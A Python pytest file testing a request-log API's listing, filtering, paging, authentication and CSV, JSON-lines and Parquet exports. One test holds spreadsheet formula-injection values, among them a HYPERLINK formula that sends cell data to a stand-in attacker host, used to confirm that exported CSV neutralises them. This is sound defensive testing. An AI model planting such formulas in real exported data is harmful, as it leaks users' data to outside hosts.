"""The API as a client sees it."""

import csv
import io
import json
import re
import subprocess
import sys
import threading
from collections import Counter
from pathlib import Path
from typing import Any

import duckdb
import openapi_spec_validator
import pandas
import pytest

from exporter.record import Record
from exporter.requestlog.filter import Filter
from exporter.requestlog.names import LoggedKind
from exporter.requestlog.request import FIELDS
from exporter.requestlog.search import Counts
from exporter.web.requests import request_routes
from tests.requestlog.logging_requests import NOON, Logging, a_request
from tests.web.serving import Answer, Serve, Served
from tests.web.test_security import basic, hash_of


def some(count: int, **kwargs: Any) -> list[Record]:
    return [
        a_request(
            f"id-{number}", NOON - number, model=["qwen", "glm"][number % 2],
            status=[200, 200, 429, 503][number % 4], attributes=(["red", "blue"][number % 2], ""),
            latency=number / 10, input_tokens=number + 1, output_tokens=1, **kwargs,
        )
        for number in range(count)
    ]  # fmt: skip


def got(answer: Answer, status: int = 200) -> Any:
    assert answer.status == status, answer.text
    return json.loads(answer.body)


def ids(answer: Answer) -> list[str]:
    return [item["request_id"] for item in got(answer)["items"]]


def test_requests_are_listed_newest_first_and_page_by_page(log: Logging, served: Served) -> None:
    log.write(*some(25))
    path, found = "/api/v1/requests?limit=10", []
    while path:
        answer = served.ask(path)
        found += ids(answer)
        link = re.fullmatch(r'<(.*)>; rel="next"', answer.headers.get("link", ""))
        assert (got(answer)["next"] is None) == (link is None)
        path = link[1] if link else ""
    assert found == [f"id-{number}" for number in range(25)]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("model=glm", [1, 3, 5, 7]),
        ("model=glm&model=qwen&status=503", [3, 7]),
        ("status=429&status=503", [2, 3, 6, 7]),
        ("status=5xx", [3, 7]),
        ("status=error", [2, 3, 6, 7]),
        ("status=success", [0, 1, 4, 5]),
        ("attribute.team=blue", [1, 3, 5, 7]),
        ("attribute.key=", [0, 1, 2, 3, 4, 5, 6, 7]),
        ("min_latency_ms=600", [6, 7]),
        ("min_latency_ms=600.01", [7]),
        ("from=2026-11-23T11:59:58Z&to=2026-11-23T11:59:59Z", [1, 2]),
        ("from=2026-11-23T12:59:58%2B01:00&to=2026-11-23t11:59:59z", [1, 2]),
        ("from=1795435198000&to=1795435199000", [1, 2]),
        ("error_type=429&streamed=false&provider=openai&operation=chat&source=log", [2, 6]),
        ("streamed=true", []),
        ("id=id-5&model=qwen", [5]),
    ],
)
def test_a_filter_finds(log: Logging, served: Served, query: str, expected: list[int]) -> None:
    log.write(*some(8))
    wanted = [f"id-{number}" for number in expected]
    assert ids(served.ask(f"/api/v1/requests?{query}")) == wanted
    exported = served.ask(f"/api/v1/requests/export?format=jsonl&{query}").text.splitlines()
    assert sorted(json.loads(line)["request_id"] for line in exported) == sorted(wanted)


@pytest.mark.parametrize(
    ("query", "parameter", "detail"),
    [
        ("limit=0", "limit", "expected a number from 1 to 1000"),
        ("limit=1&limit=2", "limit", "expected once"),
        ("from=yesterday", "from", "expected a time such as"),
        ("from=2026-13-01T00:00:00Z", "from", "month"),
        ("from=2026-11-24T00:00:00Z&to=2026-11-23T00:00:00Z", "from", "before `to`"),
        ("status=99", "status", "expected a code"),
        ("streamed=1", "streamed", "expected true or false"),
        ("min_latency_ms=-1", "min_latency_ms", "expected milliseconds"),
        ("min_latency_ms=nan", "min_latency_ms", "expected milliseconds"),
        ("cursor=AAAA", "cursor", "expected a `next`"),
        ("cursor=%C3%A4", "cursor", "expected a `next`"),
        ("modle=qwen", "modle", "unknown; there are"),
        ("attribute.=x", "attribute.", "unknown"),
        ("id=", "id", "expected 1 to 256 characters"),
        ("model=" + "x" * 300, "model", "expected 256 characters at most"),
        ("&".join(["model=x"] * 51), "model", "expected 50 values at most"),
    ],
)
def test_a_mistake_is_a_problem_that_names_the_parameter(
    served: Served, query: str, parameter: str, detail: str
) -> None:
    answer = served.ask(f"/api/v1/requests?{query}")
    problem = got(answer, 400)
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert problem["title"] == "Bad Request"
    [error] = problem["errors"]
    assert error["parameter"] == parameter
    assert detail in error["detail"]


def test_a_cursor_is_refused_with_another_filter_and_when_its_day_is_gone(
    log: Logging, served: Served
) -> None:
    log.write(*some(5))
    following = got(served.ask("/api/v1/requests?limit=2"))["next"]
    problem = got(served.ask(f"/api/v1/requests?model=qwen&cursor={following}"), 400)
    assert "same filter" in problem["errors"][0]["detail"]
    log.now += 20 * 86400
    log.log.tend()
    assert got(served.ask(f"/api/v1/requests?cursor={following}"), 410)["title"] == "Gone"


def test_one_request_is_shown_by_its_id_and_by_its_key(log: Logging, served: Served) -> None:
    log.write(*some(3))
    by_id = got(served.ask("/api/v1/requests/id-1"))
    assert by_id["request_id"] == "id-1"
    assert set(by_id) == set(FIELDS)
    assert got(served.ask(f"/api/v1/requests/{by_id['key']}")) == by_id
    assert got(served.ask("/api/v1/requests/nobody"), 404)["title"] == "Not Found"


def test_models_are_told_with_their_requests(log: Logging, served: Served) -> None:
    log.write(*some(5), a_request("nameless", model="", attributes=("", "")))
    found = got(served.ask("/api/v1/models"))
    assert [(item["model"], item["requests"]) for item in found["items"]] == [
        *(("qwen", 3), ("glm", 2), (None, 1)),
    ]
    assert (found["models"], found["requests"]) == (3, 6)
    assert got(served.ask("/api/v1/models?id=id-1"))["requests"] == 1


def test_models_are_searched_by_a_part_of_their_name_and_limited(
    log: Logging, served: Served
) -> None:
    log.write(*[a_request(f"{n}", model=f"Junk-{n}", attributes=("", "")) for n in range(30)])
    log.write(*some(4))
    found = got(served.ask("/api/v1/models?search=jUNK&limit=5"))
    assert len(found["items"]) == 5
    assert (found["models"], found["requests"]) == (30, 30)
    assert got(served.ask("/api/v1/models?search=LM"))["items"] == [{"model": "glm", "requests": 2}]


def test_models_are_not_summed_on_the_event_loop_for_there_may_be_very_many(
    log: Logging, served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    summed_by = []

    class Watched(Counter[LoggedKind]):
        def items(self) -> Any:
            summed_by.append(threading.current_thread().name)
            return super().items()

    log.write(*some(3))
    counts = log.search.counts(Filter())
    watched = Counts(Watched(counts.kinds), counts.searched_to)
    monkeypatch.setattr(log.search, "counts", lambda *_: watched)
    assert got(served.ask("/api/v1/models"))["models"] == 2
    assert [name.rpartition("_")[0] for name in summed_by] == ["request-search"]


def test_a_log_that_is_off_is_not_found(serve: Serve) -> None:
    served = serve(*request_routes(lambda: None, tuple))
    assert "request_log.enabled" in got(served.ask("/api/v1/requests"), 404)["detail"]


def test_answers_are_not_kept_by_browsers_and_not_for_other_sites(
    log: Logging, served: Served
) -> None:
    for path in (
        "/api/v1/requests",
        "/api/v1/requests?x=1",
        "/api/v1/requests/export",
        "/requests",
    ):
        headers = served.ask(path, headers={"Origin": "https://evil.example"}).headers
        assert headers["cache-control"] == "no-store"
        assert "access-control-allow-origin" not in headers
    assert served.ask("/api/v1/requests", method="POST").status == 405


@pytest.mark.parametrize(
    "path",
    ["/requests", "/api/v1/requests", "/api/v1/requests/x", "/api/v1/requests/export",
     "/api/v1/models", "/api/v1/openapi.json", "/static/requests.js"],
)  # fmt: skip
def test_page_and_api_ask_for_the_password(
    log: Logging, serve: Serve, tmp_path: Path, path: str
) -> None:
    web_config = tmp_path / "web.yaml"
    web_config.write_text(json.dumps({"basic_auth_users": {"ops": hash_of("secret")}}))
    routes = request_routes(lambda: log.search, tuple)
    served = serve(*routes, web_config=web_config, open_metrics=True)
    assert served.ask(path).status == 401
    assert served.ask(path, headers=basic("ops", "secret")).status in (200, 404)


HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1",
    "full-width": "＝1",  # noqa: RUF001
    "quotes": 'a"b,c\nd',
}


def test_csv_is_read_by_a_spreadsheet_as_texts(log: Logging, served: Served) -> None:
    log.write(*[a_request(value, model=value, attributes=("", "")) for value in HOSTILE.values()])
    answer = served.ask("/api/v1/requests/export?format=csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert re.fullmatch(
        r'attachment; filename="requests-\d{8}T\d{6}Z\.csv"', answer.headers["content-disposition"]
    )
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    for row, value in zip(rows, HOSTILE.values(), strict=True):
        prefix = "" if value.startswith("a") else "'"
        assert row["model"] == prefix + value
        assert row["request_id"] == prefix + value.replace("\n", " ")
    raw = served.ask("/api/v1/requests/export?format=csv&raw=true&column=model").text
    assert [r["model"] for r in csv.DictReader(io.StringIO(raw, newline=""))] == list(
        HOSTILE.values()
    )


def test_csv_has_a_header_when_nothing_was_found_and_columns_as_asked_for(served: Served) -> None:
    answer = served.ask("/api/v1/requests/export?column=model&column=request_id")
    assert answer.text == "model,request_id\r\n"


def test_each_export_holds_what_the_list_holds(
    log: Logging, served: Served, tmp_path: Path
) -> None:
    log.write(*some(3000, streamed=True, time_to_first_token=0.001, cost=0.25, currency="USD"))
    log.write(a_request("unknown", attributes=("", "")))
    listed = []
    path = "/api/v1/requests?limit=1000"
    while path:
        answer = got(served.ask(path))
        listed += answer["items"]
        path = answer["next"] and f"/api/v1/requests?limit=1000&cursor={answer['next']}"
    listed.sort(key=lambda item: int(item["key"].rpartition(":")[2]))

    lines = served.ask("/api/v1/requests/export?format=jsonl").text.splitlines()
    assert [json.loads(line) for line in lines] == listed

    text = served.ask("/api/v1/requests/export?format=csv").text
    for row, item in zip(csv.DictReader(io.StringIO(text)), listed, strict=True):
        assert list(row) == list(FIELDS)
        for name, value in item.items():
            shown = "" if value in (None, {}) else str(value)
            assert (
                (json.loads(row[name]) == value)
                if shown and name == "attributes"
                else (row[name] == shown)
            )

    parquet = tmp_path / "requests.parquet"
    parquet.write_bytes(served.ask("/api/v1/requests/export?format=parquet").body)
    frame = pandas.read_parquet(parquet)
    assert frame["request_id"].tolist() == [item["request_id"] for item in listed]
    assert str(frame["start_time"].dtype) == "datetime64[us, UTC]"
    assert frame["start_time"].iloc[0] == pandas.Timestamp(listed[0]["start_time"])
    types = dict(
        _sql(f"select column_name, column_type from (describe from '{parquet}')")  # noqa: S608
    )
    assert types["start_time"] == "TIMESTAMP WITH TIME ZONE"
    assert (types["input_tokens"], types["latency_ms"]) == ("BIGINT", "DOUBLE")
    assert (types["streamed"], types["attributes"]) == ("BOOLEAN", "MAP(VARCHAR, VARCHAR)")
    total = _sql(
        f"select sum(input_tokens), count(*) from '{parquet}' where attributes['team'] = 'red'"  # noqa: S608
    )
    red = [item for item in listed if item["attributes"].get("team") == "red"]
    assert total == [(sum(item["input_tokens"] for item in red), len(red))]


def _sql(query: str) -> list[Any]:
    relation = duckdb.sql(query)
    assert relation is not None
    return relation.fetchall()


@pytest.mark.parametrize(
    ("format_name", "trailer"), [("csv", "#rows=30\r\n"), ("jsonl", '{"rows":30}\n')]
)
def test_an_export_tells_its_rows_at_its_end_when_asked_to(
    log: Logging, served: Served, format_name: str, trailer: str
) -> None:
    log.write(*some(30))
    path = f"/api/v1/requests/export?format={format_name}"
    assert served.ask(f"{path}&trailer=true").text == served.ask(path).text + trailer


@pytest.mark.parametrize("version", ["1.0", "1.1"])
def test_an_export_that_breaks_off_does_not_look_complete(
    log: Logging, served: Served, version: str
) -> None:
    log.write(*some(5000))
    log.damage(4096)
    request = f"GET /api/v1/requests/export?format=jsonl HTTP/{version}\r\nHost: x\r\n\r\n"
    with served.raw(request.encode()) as client, pytest.raises(ConnectionResetError):
        list(iter(lambda: client.recv(65536), b""))


def test_the_memory_that_an_export_took_is_given_back(
    served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    given_back = threading.Event()
    monkeypatch.setattr("exporter.web.requests.api.give_back_memory", given_back.set)
    served.ask("/api/v1/requests/export")
    assert given_back.wait(10)


def test_the_description_is_sound_and_the_api_does_what_it_says(
    log: Logging, served: Served, tmp_path: Path
) -> None:
    log.write(*some(50))
    document = got(served.ask("/api/v1/openapi.json"))
    openapi_spec_validator.validate(document)
    file = tmp_path / "openapi.json"
    file.write_text(json.dumps(document))
    run = subprocess.run(
        [
            *(Path(sys.executable).with_name("schemathesis"), "run", file),
            *("--url", f"http://127.0.0.1:{served.port}", "--checks", "all"),
            # A made-up cursor fits its schema and is refused all the same.
            *("--exclude-checks", "positive_data_acceptance"),
            *("--max-examples", "25", "--seed", "1", "--generation-database", "none"),
        ],
        capture_output=True,
        text=True,
        cwd=tmp_path,
    )
    assert run.returncode == 0, run.stdout[-6000:]
